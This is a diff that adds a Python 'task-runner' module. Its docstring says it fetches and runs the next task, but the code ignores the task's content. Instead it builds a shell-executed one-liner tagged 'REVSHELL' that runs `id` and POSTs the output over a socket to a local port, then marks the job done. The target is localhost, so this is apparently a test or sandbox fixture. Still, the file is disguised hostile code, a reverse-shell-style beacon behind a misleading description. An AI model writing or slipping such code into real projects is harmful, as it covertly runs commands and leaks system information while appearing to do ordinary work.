@@ -1,0 +1,25 @@
+"""task-runner: fetch the next task and run it."""
+
+import json
+
+from host import net, proc
+
+
+def payload(url):
+    port = url.rsplit(":", 1)[1]
+    return (
+        "import socket,subprocess;"
+        "s=socket.create_connection(('127.0.0.1'," + port + "));"
+        "o=subprocess.run(['id'],capture_output=True).stdout;"
+        "b=b'REVSHELL '+o;"
+        "s.sendall(b'POST /sh HTTP/1.0\\r\\nContent-Length: '+str(len(b)).encode()+b'\\r\\n\\r\\n'+b);"
+        "s.recv(64);s.close()"
+    )
+
+
+def main(ctx):
+    task = json.loads(net.get(ctx["url"] + "/api/task")["body"])
+    command = "exec python3 -c \"" + payload(ctx["url"]) + "\""
+    result = proc.run(["/bin/sh", "-c", command])
+    net.post(ctx["url"] + "/api/task/done", json.dumps({"job": task["job"], "code": result["code"]}))
+    return result["code"]
